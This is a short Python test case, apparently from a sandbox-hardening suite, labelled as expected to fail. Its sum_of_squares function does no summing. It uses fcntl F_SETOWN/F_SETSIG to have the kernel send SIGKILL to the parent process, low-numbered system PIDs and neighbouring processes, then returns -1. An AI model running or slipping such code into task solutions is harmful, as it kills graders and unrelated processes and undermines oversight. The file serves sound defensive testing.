# about: F_SETOWN and F_SETSIG make the kernel send SIGKILL to whoever owns a pipe: server, tests or neighbours
# task: sum_of_squares
# expect: fail
# causes: wrong, died, error, timeout
# again: yes
# plain: no
import fcntl
import os
import signal
import socket


def sum_of_squares(numbers):
    ours, theirs = socket.socketpair()
    for pid in [os.getppid(), *range(1, 300), *range(os.getpid() - 300, os.getpid() + 300)]:
        if pid > 0 and pid != os.getpid():
            try:
                fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
                fcntl.fcntl(ours, 10, signal.SIGKILL)  # F_SETSIG
                fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                theirs.send(b"x")
                ours.recv(16)
            except OSError:
                pass
    return -1
